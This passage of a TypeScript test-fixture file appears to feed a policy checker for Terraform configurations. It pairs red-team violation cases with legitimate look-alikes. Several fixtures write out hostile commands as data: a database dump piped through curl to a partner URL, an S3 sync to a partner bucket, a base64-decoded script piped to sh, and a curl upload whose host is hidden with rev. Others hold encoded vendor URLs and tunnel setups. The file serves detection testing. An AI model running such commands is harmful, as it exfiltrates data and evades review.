      (j.data ??= {}).aws_iam_policy_document = { ...(j.data.aws_iam_policy_document ?? {}), CiTrust: { statement: [{ effect: "Allow", actions: ["sts:AssumeRoleWithWebIdentity"], principals: [{ type: "Federated", identifiers: [`arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com`] }], condition: [{ test: "StringEquals", variable: "token.actions.githubusercontent.com:sub", values: ["repo:acme/regionkit:environment:eu-prod"] }] }] } };
    },
  }),
  L("legit", "Lambda with AWS's Lambda Insights extension layer in its own AWS region", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:eu-central-1:580247275435:layer:LambdaInsightsExtension:53"] }),
  }),
  L("legit", "raw bucket policy Principal * bounded by ForAnyValue:StringEquals aws:PrincipalAccount = own", "data-eu", {
    add: r("aws_s3_bucket_policy", "Fav", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { "ForAnyValue:StringEquals": { "aws:PrincipalAccount": [EU] } } }]) }),
  }),  V("mover", "role may execute-api:Invoke and lambda:InvokeFunctionUrl on * (any account's APIs)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: ["execute-api:Invoke", "lambda:InvokeFunctionUrl"], Resource: "*" }]) }),
  V("mover", "role may dynamodb:BatchWriteItem and UpdateItem on * (another account's table with a resource policy)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: ["dynamodb:BatchWriteItem", "dynamodb:UpdateItem"], Resource: "*" }]) }),
  V("mover", "role may s3:Put* on every bucket (arn:aws:s3:::*)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "s3:Put*", Resource: "arn:aws:s3:::*" }]) }),
  V("mover", "role may kinesis:* on * (a service wildcard covers its writes)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "kinesis:*", Resource: "*" }]) }),
  L("legit", "role may read and describe on * and create its function's network interfaces", "data-eu", {
    mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: ["ec2:DescribeNetworkInterfaces", "ec2:CreateNetworkInterface", "ec2:DeleteNetworkInterface", "s3:ListAllMyBuckets", "glue:Get*", "cloudwatch:PutMetricData", "xray:PutTraceSegments"], Resource: "*" }]),
  }),
  // ---- red-team round 4: check blocks, ephemeral resources, provisioners ---------------------------------
  V("closed-world", "local-exec provisioner on the raw bucket syncs it to a partner bucket", "data-eu", {
    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === RAW)[1].provisioner = [{ "local-exec": { command: `aws s3 sync s3://${RAW} s3://partner-drop-eu/ --only-show-errors` } }]),
  }),
  V("closed-world", "remote-exec provisioner: pg_dump | curl -T to a vendor URL", "data-eu", {
    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${self.private_ip}", user: "ec2-user" }, provisioner: [{ "remote-exec": { inline: ["pg_dump -h rk-eu-shard-001 app | gzip | curl -sT - https://upload.partner-analytics.com/eu/app.sql.gz"] } }] }),
  }),
  V("closed-world", "file provisioner copying a dump to a host at a public address", "data-eu", {
    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "203.0.113.10", user: "partner" }, provisioner: [{ file: { source: "dump.sql.gz", destination: "/srv/drop/eu.sql.gz" } }] }),
  }),
  V("closed-world", "provisioner connection host from a variable", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).drop_host = { type: "string" }),
    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${var.drop_host}", user: "partner" }, provisioner: [{ file: { source: "dump.sql.gz", destination: "/srv/drop/eu.sql.gz" } }] }),
  }),
  V("closed-world", "check block with a scoped http data source POSTing to a vendor", "data-eu", {
    mutate: (j) => (j.check = { exporter_reachable: { data: { http: { probe: { url: "https://collect.partner-analytics.com/v1/ping", method: "POST" } } }, assert: [{ condition: "${data.http.probe.status_code == 200}", error_message: "collector down" }] } }),
  }),
  V("closed-world", "ephemeral aws_lambda_invocation of a us-east-1 function", "data-eu", {
    mutate: (j) => (j.ephemeral = { aws_lambda_invocation: { Push: { function_name: `arn:aws:lambda:us-east-1:${EU}:function:rk-eu-collector`, payload: `{"bucket":"${RAW}"}` } } }),
  }),
  V("closed-world", "ephemeral resource of an unclassified type (a secret from an outside Vault)", "data-eu", {
    mutate: (j) => (j.ephemeral = { vault_kv_secret_v2: { Sink: { mount: "kv", name: "exporter/sink" } } }),
  }),
  L("legit", "local-exec provisioner copying an artifact inside the artifacts bucket", "data-eu", {
    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === `rk-eu-spark-artifacts-${EU}`)[1].provisioner = [{ "local-exec": { command: `aws s3 cp s3://rk-eu-spark-artifacts-${EU}/bootstrap/a.sh s3://rk-eu-spark-artifacts-${EU}/bootstrap/b.sh --region eu-central-1` } }]),
  }),
  L("legit", "remote-exec provisioner restarting a service over the instance's own private address", "data-eu", {
    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${self.private_ip}", user: "ec2-user" }, provisioner: [{ "remote-exec": { inline: ["sudo systemctl restart pgbouncer"] } }] }),
  }),
  L("legit", "check block looking up the region's raw bucket", "data-eu", {
    mutate: (j) => (j.check = { raw_exists: { data: { aws_s3_bucket: { Raw: { bucket: RAW } } }, assert: [{ condition: "${data.aws_s3_bucket.Raw.bucket_regional_domain_name != \"\"}", error_message: "raw bucket missing" }] } }),
  }),
  L("legit", "ephemeral read of the region's own secret", "data-eu", {
    mutate: (j) => (j.ephemeral = { aws_secretsmanager_secret_version: { Db: { secret_id: `arn:aws:secretsmanager:eu-central-1:${EU}:secret:rk-eu-db-AbCdEf` } } }),
  }),  V("principal", "raw bucket legacy inline grant READ to another account's canonical user", "data-eu", {
    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === RAW)[1].grant = [{ type: "CanonicalUser", id: "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0", permissions: ["READ"] }]),
  }),
  V("principal", "raw bucket legacy inline grant READ to AllUsers", "data-eu", {
    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === RAW)[1].grant = [{ type: "Group", uri: "http://acs.amazonaws.com/groups/global/AllUsers", permissions: ["READ"] }]),
  }),
  L("legit", "logs bucket legacy inline grant FULL_CONTROL to its owner (data.aws_canonical_user_id)", "data-eu", {
    mutate: (j) => {
      (j.data ??= {}).aws_canonical_user_id = { Me: {} };
      find(j, "aws_s3_bucket", (a) => a.bucket === LOGS)[1].grant = [{ type: "CanonicalUser", id: "${data.aws_canonical_user_id.Me.id}", permissions: ["FULL_CONTROL"] }];
    },
  }),

  // ---- red-team round 4: chained movers (a next hop the stack does not define) ---------------------------
  V("mover", "log subscription filter into an own-account Firehose not defined in the stack", "data-eu", {
    add: r("aws_cloudwatch_log_subscription_filter", "Sub", { name: "audit", log_group_name: "/rk/eu/audit", filter_pattern: "", destination_arn: `arn:aws:firehose:eu-central-1:${EU}:deliverystream/audit-export`, role_arn: `arn:aws:iam::${EU}:role/rk-eu-logs-audit` }),
  }),
  V("mover", "raw bucket notification to an own-account Lambda not defined in the stack", "data-eu", {
    add: r("aws_s3_bucket_notification", "N", { bucket: RAW, lambda_function: [{ lambda_function_arn: `arn:aws:lambda:eu-central-1:${EU}:function:audit-forwarder`, events: ["s3:ObjectCreated:*"] }] }),
  }),
  V("mover", "EventBridge target: an own-account SNS topic not defined in the stack", "data-eu", {
    add: merge(r("aws_cloudwatch_event_rule", "R", { name: "rk-eu-r", event_pattern: '{"source":["aws.s3"]}' }), r("aws_cloudwatch_event_target", "T", { rule: "${aws_cloudwatch_event_rule.R.name}", arn: `arn:aws:sns:eu-central-1:${EU}:partner-notify` })),
  }),
  L("legit", "EventBridge target: the region's alarm topic by literal kit-named ARN", "data-eu", {
    add: merge(r("aws_cloudwatch_event_rule", "R", { name: "rk-eu-r", event_pattern: '{"source":["aws.s3"]}' }), r("aws_cloudwatch_event_target", "T", { rule: "${aws_cloudwatch_event_rule.R.name}", arn: `arn:aws:sns:eu-central-1:${EU}:rk-eu-alarms` })),
  }),
  L("legit", "log subscription filter into a Firehose this stack defines, by literal ARN", "data-eu", {
    add: merge(
      r("aws_kinesis_firehose_delivery_stream", "Audit", { name: "audit-export", destination: "extended_s3", extended_s3_configuration: { role_arn: `arn:aws:iam::${EU}:role/rk-eu-firehose`, bucket_arn: `arn:aws:s3:::${LOGS}` } }),
      r("aws_cloudwatch_log_subscription_filter", "Sub", { name: "audit", log_group_name: "/rk/eu/audit", filter_pattern: "", destination_arn: `arn:aws:firehose:eu-central-1:${EU}:deliverystream/audit-export`, role_arn: `arn:aws:iam::${EU}:role/rk-eu-logs-audit` }),
    ),
  }),

  // ---- red-team round 4: central on `*` in the account it shares with data-us ------------------------------
  ...[
    ["elasticmapreduce:GetClusterSessionCredentials"],
    ["rds:RestoreDBInstanceToPointInTime", "rds:CreateDBInstance"],
    ["lambda:UpdateFunctionConfiguration"],
    ["kafkaconnect:CreateConnector"],
    ["s3:PutBucketAcl", "s3:PutObjectAcl"],
    ["logs:StartLiveTail"],
    ["logs:Describe*"],
  ].map((actions) => V("central", `central ${actions.join(" + ")} on *`, "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: actions, Resource: "*" }]) }) })),
  V("central", "central Lambda in a subnet and security group it does not define (literal ids)", "central", {
    add: r("aws_lambda_function", "Probe", { function_name: "rk-central-probe", role: "arn:aws:iam::111111111111:role/rk-central-probe", handler: "index.handler", runtime: "python3.12", s3_bucket: "rk-central-config-111111111111", s3_key: "probe.zip", vpc_config: { subnet_ids: ["subnet-0a1b2c3d4e5f60718"], security_group_ids: ["sg-0a1b2c3d4e5f60718"] } }),
  }),
  L("legit", "central logs:StartLiveTail on its own log group, and MWAA's account-level calls on *", "central", {
    add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "logs:StartLiveTail", Resource: "arn:aws:logs:us-west-2:111111111111:log-group:/rk/central/vpc-flow-logs:*" }, { Effect: "Allow", Action: ["logs:DescribeLogGroups", "cloudwatch:PutMetricData"], Resource: "*" }]) }),
  }),
  // ---- red-team round 4: values kept outside the configuration (Secrets, ECS environment files and secrets) ---
  ...([
    ["secretKeyRef", (c: Json) => (c.env = [...(c.env ?? []), { name: "SINK_URL", valueFrom: { secretKeyRef: { name: "partner-sink", key: "url" } } }])],
    ["envFrom secretRef", (c: Json) => (c.envFrom = [{ secretRef: { name: "partner-sink" } }])],
  ] as const).map(([how, change]) =>
    V("kubernetes", `Deployment reads a Secret the stack does not define (${how})`, "cdc-eu", { mutate: (j) => change(find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.containers[0]) }),
  ),
  V("kubernetes", "Deployment mounts a Secret volume the stack does not define", "cdc-eu", {
    mutate: (j) => (find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.volumes = [{ name: "sink", secret: { secretName: "partner-sink" } }]),
  }),
  V("mover", "ECS task environmentFiles from an S3 object (the sink URL is in the file)", "data-eu", {
    add: r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, environmentFiles: [{ type: "s3", value: `arn:aws:s3:::rk-eu-spark-artifacts-${EU}/env/exporter.env` }] }]) }),
  }),
  V("mover", "ECS task secrets valueFrom an SSM parameter the stack does not define", "data-eu", {
    add: r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, secrets: [{ name: "SINK_URL", valueFrom: `arn:aws:ssm:eu-central-1:${EU}:parameter/rk/eu/exporter/sink-url` }] }]) }),
  }),
  L("legit", "Deployment reads a Secret the stack defines (secretKeyRef)", "cdc-eu", {
    add: r("kubernetes_manifest", "Sink", { manifest: { apiVersion: "v1", kind: "Secret", metadata: { name: "exporter-sink", namespace: "cdc" }, type: "Opaque", data: { url: Buffer.from(`https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-jobs`).toString("base64") } } }),
    mutate: (j) => {
      const c = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.containers[0];
      c.env = [...(c.env ?? []), { name: "SINK_URL", valueFrom: { secretKeyRef: { name: "exporter-sink", key: "url" } } }];
    },
  }),
  L("legit", "ECS task secrets valueFrom a parameter the stack defines (literal ARN)", "data-eu", {
    add: merge(
      r("aws_ssm_parameter", "Sink", { name: "/rk/eu/exporter/sink-url", type: "String", value: `https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-jobs` }),
      r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, secrets: [{ name: "SINK_URL", valueFrom: `arn:aws:ssm:eu-central-1:${EU}:parameter/rk/eu/exporter/sink-url` }] }]) }),
    ),
  }),  L("legit", "Deployment reads the Secret Strimzi writes for a KafkaUser of this stack", "cdc-eu", {
    add: kafkaManifest("KafkaUser", { authentication: { type: "scram-sha-512" } }),
    mutate: (j) => {
      const c = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec.containers[0];
      c.env = [...(c.env ?? []), { name: "KAFKA_PASSWORD", valueFrom: { secretKeyRef: { name: "injected", key: "password" } } }];
    },
  }),
  // ---- red-team round 4: vendor outputs and tunnels with default endpoints ---------------------------------
  V("external", "Fluent Bit sidecar on its command line: -o datadog (no host)", "cdc-eu", {
    mutate: (j) => {
      const spec = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment")[1].manifest.spec.template.spec;
      spec.containers = [...spec.containers, { name: "logs", image: "fluent/fluent-bit:3.1", args: ["-i", "tail", "-p", "path=/var/log/containers/*.log", "-o", "datadog", "-p", "apikey=0123abcd"] }];
    },
  }),
  ...([
    ["Fluent Bit ConfigMap [OUTPUT] Name datadog (no Host)", { "fluent-bit.conf": "[INPUT]\n    Name tail\n    Path /var/log/containers/*.log\n[OUTPUT]\n    Name        datadog\n    Match       *\n    apikey      0123abcd\n" }],
    ["Fluent Bit ConfigMap [OUTPUT] s3 with a whitespace-separated foreign bucket", { "fluent-bit.conf": "[OUTPUT]\n    Name    s3\n    Match   *\n    bucket  partner-logs-drop\n    region  eu-central-1\n" }],
    ["OTel collector ConfigMap with the datadog exporter", { "config.yaml": "receivers:\n  otlp:\n    protocols:\n      grpc: {}\nexporters:\n  datadog:\n    api:\n      key: 0123abcd\nservice:\n  pipelines:\n    logs:\n      receivers: [otlp]\n      exporters: [datadog]\n" }],
  ] as const).map(([name, data]) => V("external", name, "cdc-eu", { add: r("kubernetes_manifest", "Cm", { manifest: { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "telemetry", namespace: "cdc" }, data } }) })),
  V("external", "EKS Marketplace add-on datadog_operator", "data-eu", { add: r("aws_eks_addon", "Dd", { cluster_name: "rk-eu-cdc", addon_name: "datadog_operator" }) }),
  V("external", "pooler user_data joins a Tailscale tailnet", "data-eu", {
    mutate: (j) => (find(j, "aws_launch_template", (a) => JSON.stringify(a).includes("Pooler"))[1].user_data = Buffer.from("#!/bin/bash\ndnf install -y tailscale\ntailscale up --authkey=tskey-auth-k123 --advertise-routes=10.20.0.0/16\n").toString("base64")),
  }),
  V("external", "cloudflared Deployment switched on by TUNNEL_TOKEN", "cdc-eu", {
    add: r("kubernetes_manifest", "Tunnel", { manifest: { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "tunnel", namespace: "cdc" }, spec: { selector: { matchLabels: { app: "tunnel" } }, template: { metadata: { labels: { app: "tunnel" } }, spec: { containers: [{ name: "cloudflared", image: "cloudflare/cloudflared:2024.8.2", args: ["tunnel", "run"], env: [{ name: "TUNNEL_TOKEN", value: "eyJhIjoiMTIzNCJ9" }] }] } } } } }),
  }),
  ...([
    ["Fluent Bit ConfigMap [OUTPUT] cloudwatch_logs in the region (classic syntax)", { "fluent-bit.conf": "[OUTPUT]\n    Name               cloudwatch_logs\n    Match              *\n    region             eu-central-1\n    log_group_name     /rk/eu/cdc/containers\n" }],
    ["Fluent Bit ConfigMap [OUTPUT] s3 into the region's logs bucket (classic syntax)", { "fluent-bit.conf": `[OUTPUT]\n    Name    s3\n    Match   *\n    bucket  ${LOGS}\n    region  eu-central-1\n` }],
    ["OTel collector ConfigMap exporting to CloudWatch (awsemf, awsxray)", { "config.yaml": "receivers:\n  otlp:\n    protocols:\n      grpc: {}\nexporters:\n  awsemf:\n    region: eu-central-1\n  awsxray/traces:\n    region: eu-central-1\nservice:\n  pipelines:\n    metrics:\n      receivers: [otlp]\n      exporters: [awsemf]\n" }],
  ] as const).map(([name, data]) => L("legit", name, "cdc-eu", { add: r("kubernetes_manifest", "Cm", { manifest: { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "telemetry", namespace: "cdc" }, data } }) })),
  L("legit", "EKS add-on amazon-cloudwatch-observability", "data-eu", { add: r("aws_eks_addon", "Cw", { cluster_name: "rk-eu-cdc", addon_name: "amazon-cloudwatch-observability" }) }),
  // ---- red-team round 4: Local Zones in another country than their parent region ----------------------------
  V("placement", "data-jp subnet in Tokyo's Taipei Local Zone (ap-northeast-1-tpe-1a)", "data-jp", { add: r("aws_subnet", "Lz", { vpc_id: "vpc-1", cidr_block: "10.30.250.0/24", availability_zone: "ap-northeast-1-tpe-1a" }) }),
  L("legit", "data-us Elastic IP in the Los Angeles Local Zone of us-west-2, named by its border group", "data-us", { add: r("aws_eip", "Lz", { domain: "vpc", network_border_group: "us-west-2-lax-1" }) }),
  V("placement", "data-eu subnet in a Local Zone the catalog does not know", "data-eu", { add: r("aws_subnet", "Lz", { vpc_id: "vpc-1", cidr_block: "10.20.250.0/24", availability_zone: "eu-central-1-xyz-1a" }) }),
  L("legit", "data-eu subnet in the Hamburg Local Zone (eu-central-1-ham-1a, Germany)", "data-eu", { add: r("aws_subnet", "Lz", { vpc_id: "vpc-1", cidr_block: "10.20.250.0/24", availability_zone: "eu-central-1-ham-1a" }) }),
  L("legit", "data-jp subnet in ap-northeast-1a with the Taipei zone named in a tag", "data-jp", { add: r("aws_subnet", "Sn", { vpc_id: "vpc-1", cidr_block: "10.30.240.0/24", availability_zone: "ap-northeast-1a", tags: { note: "not ap-northeast-1-tpe-1a: JP only" } }) }),
  // ---- red-team round 4: the sanitized export in two attributes; sharing through an orchestration's API calls ---
  V("mover", "SSM association output to the sanitized bucket with key prefix export/", "data-eu", {
    add: r("aws_ssm_association", "Dump", { name: "AWS-RunShellScript", targets: [{ key: "tag:regionkit:stack", values: ["data-eu"] }], parameters: { commands: "pg_dump -h rk-eu-shard-001 app" }, output_location: { s3_bucket_name: SANITIZED, s3_key_prefix: "export/dumps" } }),
  }),
  V("mover", "Glue job --output_bucket = sanitized, --output_prefix = export/", "data-eu", {
    add: r("aws_glue_job", "G", { name: "rk-eu-copy", role_arn: `arn:aws:iam::${EU}:role/rk-eu-glue`, command: { script_location: `s3://rk-eu-spark-artifacts-${EU}/glue/copy.py` }, default_arguments: { "--input_path": `s3://${RAW}/block/`, "--output_bucket": SANITIZED, "--output_prefix": "export/block/" } }),
  }),
  V("principal", "Step Functions aws-sdk:rds:modifyDBSnapshotAttribute with ValuesToAdd [all]", "data-eu", {
    add: r("aws_sfn_state_machine", "S", { name: "rk-eu-maint", role_arn: `arn:aws:iam::${EU}:role/rk-eu-sfn`, definition: JSON.stringify({ StartAt: "Share", States: { Share: { Type: "Task", Resource: "arn:aws:states:::aws-sdk:rds:modifyDBSnapshotAttribute", Parameters: { DbSnapshotIdentifier: "rk-eu-shard-001-snap", AttributeName: "restore", ValuesToAdd: ["all"] }, End: true } } }) }),
  }),
  L("legit", "SSM association output to the logs bucket (prefix ssm/)", "data-eu", {
    add: r("aws_ssm_association", "Dump", { name: "AWS-RunShellScript", targets: [{ key: "tag:regionkit:stack", values: ["data-eu"] }], parameters: { commands: "df -h" }, output_location: { s3_bucket_name: LOGS, s3_key_prefix: "ssm/" } }),
  }),
  L("legit", "Glue job --output_bucket = the sanitized bucket, --output_prefix staging/ (not the export)", "data-eu", {
    add: r("aws_glue_job", "G", { name: "rk-eu-copy", role_arn: `arn:aws:iam::${EU}:role/rk-eu-glue`, command: { script_location: `s3://rk-eu-spark-artifacts-${EU}/glue/copy.py` }, default_arguments: { "--input_path": `s3://${RAW}/block/`, "--output_bucket": SANITIZED, "--output_prefix": "staging/block/" } }),
  }),
  L("legit", "Step Functions aws-sdk:rds:modifyDBSnapshotAttribute sharing with the own account", "data-eu", {
    add: r("aws_sfn_state_machine", "S", { name: "rk-eu-maint", role_arn: `arn:aws:iam::${EU}:role/rk-eu-sfn`, definition: JSON.stringify({ StartAt: "Share", States: { Share: { Type: "Task", Resource: "arn:aws:states:::aws-sdk:rds:modifyDBSnapshotAttribute", Parameters: { DbSnapshotIdentifier: "rk-eu-shard-001-snap", AttributeName: "restore", ValuesToAdd: [EU] }, End: true } } }) }),
  }),
  // ---- red-team round 4: whole variables outside the inert keys (JSON documents, stores, providers) ---------
  ...([
    ["aws provider http_proxy from a variable", (j: Json) => (j.provider.aws[0].http_proxy = "${var.x}")],
    ["ECS container env value from a variable (inside container_definitions JSON)", (j: Json) => (j.resource.aws_ecs_task_definition = { T: { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, environment: [{ name: "SINK_URL", value: "${var.x}" }] }]) } })],
    ["SSM parameter value from a variable", (j: Json) => (j.resource.aws_ssm_parameter = { ...(j.resource.aws_ssm_parameter ?? {}), P: { name: "/rk/eu/exporter/sink", type: "String", value: "${var.x}" } })],
    ["identity policy Resource from a variable", rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "s3:PutObject", Resource: "${var.x}" }])],
    // `name` is inert only as the whole key: a key ending in _name can name a place.
    ["pipe execution-data logs to a bucket_name from a variable", (j: Json) => (j.resource.aws_pipes_pipe = { P: { name: "rk-eu-jobs-pipe", role_arn: `arn:aws:iam::${EU}:role/rk-eu-pipe`, source: `arn:aws:sqs:eu-central-1:${EU}:rk-eu-jobs`, target: `arn:aws:sqs:eu-central-1:${EU}:rk-eu-jobs`, log_configuration: { level: "TRACE", include_execution_data: ["ALL"], s3_log_destination: { bucket_name: "${var.x}", bucket_owner: EU, output_format: "json" } } } })],
    ["SSM association output to an s3_bucket_name from a variable", (j: Json) => (j.resource.aws_ssm_association = { A: { name: "AWS-RunShellScript", targets: [{ key: "tag:rk", values: ["eu"] }], output_location: { s3_bucket_name: "${var.x}", s3_key_prefix: "runs/" } } })],
  ] as const).map(([name, change]) => V("expression", name, "data-eu", { mutate: (j) => ((j.variable ??= {}).x = { type: "string" }, change(j)) })),
  V("expression", "typed kubernetes_deployment_v1 env value from a variable", "cdc-eu", {
    mutate: (j) => ((j.variable ??= {}).x = { type: "string" }),
    add: r("kubernetes_deployment_v1", "Exp", { metadata: [{ name: "exporter", namespace: "cdc" }], spec: [{ selector: [{ match_labels: { app: "exporter" } }], template: [{ metadata: [{ labels: { app: "exporter" } }], spec: [{ container: [{ name: "exporter", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-exporter:1`, env: [{ name: "SINK_URL", value: "${var.x}" }] }] }] }] }] }),
  }),
  L("legit", "log group retention and a queue name from variables (inert keys)", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).days = { type: "number" }, (j.variable.qname = { type: "string" })),
    add: merge(r("aws_cloudwatch_log_group", "G", { name: "/rk/eu/exporter", retention_in_days: "${var.days}" }), r("aws_sqs_queue", "Q", { name: "${var.qname}", message_retention_seconds: 345600 })),
  }),
  // ---- red-team round 4: the edge keeps no logs and routes only to its own worker --------------------------
  V("edge", "worker observability keeps invocation logs at Cloudflare", "edge", {
    mutate: (j) => (find(j, "cloudflare_workers_script")[1].observability = { enabled: true, head_sampling_rate: 1, logs: { enabled: true, invocation_logs: true } }),
  }),
  V("edge", "logpull retention on (request logs kept at Cloudflare)", "edge", { add: r("cloudflare_logpull_retention", "Lp", { zone_id: "${var.cloudflare_zone_id}", flag: true }) }),
  V("edge", "a route for events.eu served by a worker outside the stack", "edge", { add: r("cloudflare_workers_route", "Eu", { zone_id: "${var.cloudflare_zone_id}", pattern: "events.eu.example.com/*", script: "partner-proxy" }) }),
  L("legit", "worker observability with Workers Logs off, and logpull retention off", "edge", {
    mutate: (j) => (find(j, "cloudflare_workers_script")[1].observability = { enabled: false, logs: { enabled: false } }),
    add: r("cloudflare_logpull_retention", "Lp", { zone_id: "${var.cloudflare_zone_id}", flag: false }),
  }),
  L("legit", "a second route for events.eu served by the stack's own router worker", "edge", {
    mutate: (j) => {
      const [address] = find(j, "cloudflare_workers_script");
      j.resource.cloudflare_workers_route = { ...(j.resource.cloudflare_workers_route ?? {}), Eu2: { zone_id: "${var.cloudflare_zone_id}", pattern: "events.eu.example.com/v2/*", script: `\${cloudflare_workers_script.${address}.script_name}` } };
    },
  }),
  // ---- red-team round 4: processing outside the region's data centres ---------------------------------------
  V("placement", "subnet on an Outpost rack", "data-eu", { add: r("aws_subnet", "Op", { vpc_id: "vpc-1", cidr_block: "10.20.250.0/24", availability_zone: "eu-central-1a", outpost_arn: `arn:aws:outposts:eu-central-1:${EU}:outpost/op-0123456789abcdef0` }) }),
  V("placement", "EKS cluster with hybrid nodes (remote_network_config)", "data-eu", {
    mutate: (j) => (find(j, "aws_eks_cluster")[1].remote_network_config = { remote_node_networks: { cidrs: ["172.18.0.0/16"] }, remote_pod_networks: { cidrs: ["172.19.0.0/16"] } }),
  }),
  V("placement", "S3 Transfer Acceleration on the raw bucket", "data-eu", { add: r("aws_s3_bucket_accelerate_configuration", "Acc", { bucket: RAW, status: "Enabled" }) }),
  L("legit", "S3 Transfer Acceleration explicitly suspended on the raw bucket", "data-eu", { add: r("aws_s3_bucket_accelerate_configuration", "Acc", { bucket: RAW, status: "Suspended" }) }),
  // ---- red-team round 4: Snowflake objects named by name ------------------------------------------------------
  V("warehouse", "database with an external volume the stack does not define", "warehouse", { add: r("snowflake_database", "Ice", { name: "REGIONKIT_ICE", external_volume: "PARTNER_VOL", catalog: "SNOWFLAKE" }) }),
  V("warehouse", "database with an external catalog integration", "warehouse", { add: r("snowflake_database", "Ice", { name: "REGIONKIT_ICE", catalog: "PARTNER_GLUE_CATALOG" }) }),
  V("warehouse", "view selecting from a stage the stack does not define", "warehouse", {
    add: r("snowflake_view", "RawV", { database: "REGIONKIT", schema: "SANITIZED", name: "EU_RAW_PEEK", statement: "SELECT $1 AS v FROM @REGIONKIT.SANITIZED.EU_RAW_STAGE (FILE_FORMAT => 'REGIONKIT.SANITIZED.PARQUET')" }),
  }),
  V("warehouse", "stage over the sanitized export through a storage integration the stack does not define", "warehouse", {
    add: r("snowflake_stage", "S", { database: "REGIONKIT", schema: "SANITIZED", name: "EU_COPY_STAGE", url: `s3://${SANITIZED}/export/`, storage_integration: "PARTNER_INTEGRATION" }),
  }),
  L("legit", "view selecting from the stack's own sanitized stage", "warehouse", {
    add: r("snowflake_view", "SanV", { database: "REGIONKIT", schema: "SANITIZED", name: "EU_SANITIZED_PEEK", statement: "SELECT $1 AS v FROM @REGIONKIT.SANITIZED.SANITIZED_EU_STAGE (FILE_FORMAT => 'REGIONKIT.SANITIZED.PARQUET')" }),
  }),
  // ---- red-team round 4: encodings (hex, unpadded base64url, entities, Unicode dots, decoding pipes) ---------
  ...([
    ["hex-encoded vendor URL", Buffer.from("https://ingest.partner-analytics.com/v1").toString("hex")],
    ["unpadded base64url vendor URL", Buffer.from("https://ingest.partner-analytics.com/v1?x=1").toString("base64url")],
    ["URL with ideographic full stops", "https://ingest\u3002partner-analytics\u3002com/v1"],
    ["XML-entity-encoded vendor host", "<url>https://collect&#46;partner-analytics&#x2E;com/v1/logs</url>"],
    ["command decoding a base64 script and running it", `echo ${Buffer.from(`aws s3 sync s3://${RAW} s3://partner-drop-eu`).toString("base64")} | base64 -d | sh`],
    ["command reversing a host with rev", "curl -T /tmp/dump https://$(echo moc.scitylana-rentrap.tsegni | rev)/v1"],
  ] as const).map(([name, value]) =>
    V("expression", `Lambda env: ${name}`, "data-eu", { add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { SINK: value } } }) }),
  ),
  ...([
    ["hex of an in-region queue URL", Buffer.from(`https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-jobs`).toString("hex")],
    ["a command decoding base64 of an in-region copy", `echo ${Buffer.from(`aws s3 cp s3://rk-eu-spark-artifacts-${EU}/a.sh /tmp/a.sh --region eu-central-1`).toString("base64")} | base64 -d | sh`],
